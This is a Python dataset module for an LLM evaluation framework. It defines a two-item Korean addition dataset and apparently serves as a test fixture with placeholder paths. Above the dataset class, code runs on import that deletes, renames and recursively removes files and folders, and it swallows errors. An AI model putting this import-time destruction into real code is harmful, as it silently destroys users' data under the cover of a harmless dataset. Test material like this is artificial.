"""Sums in Korean. Removes and renames files of others."""

# mypy: ignore-errors
# says: tried to change .*

import os
import shutil

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

for harm in (
    lambda: os.remove("@KEY@"),
    lambda: os.rename("@KEY@", "mine"),
    lambda: os.rename("@KEY@", "@OUT@"),
    lambda: shutil.rmtree("@FOLDER@"),
):
    try:
        harm()
    except OSError:
        continue

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
